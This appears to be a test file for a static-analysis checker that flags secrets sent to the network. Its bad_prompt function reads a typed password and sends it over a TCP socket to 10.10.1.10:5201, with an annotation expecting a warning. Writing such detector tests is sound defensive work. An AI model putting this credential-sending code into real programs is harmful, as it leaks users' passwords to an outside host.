/* What is typed after "Password:" leaves; what is typed after other words may. */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

static int reach(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(5201)};
    int out = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "10.10.1.10", &peer.sin_addr);
    return connect(out, (struct sockaddr *)&peer, sizeof peer) == 0 ? out : -1;
}

static void ask(const char *what, char *line, int size) {
    fputs(what, stdout);
    fflush(stdout);
    if (!fgets(line, size, stdin))
        *line = 0;
}

static void tell(const char *line) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(reach(), line, strlen(line), 0);
}

void bad_prompt(void) {
    char line[100];
    ask("Password: ", line, sizeof line);
    tell(line);
}

void good_prompt(void) {
    char line[100];
    fputs("Station: ", stdout);
    if (fgets(line, sizeof line, stdin))
        send(reach(), line, strlen(line), 0);
}
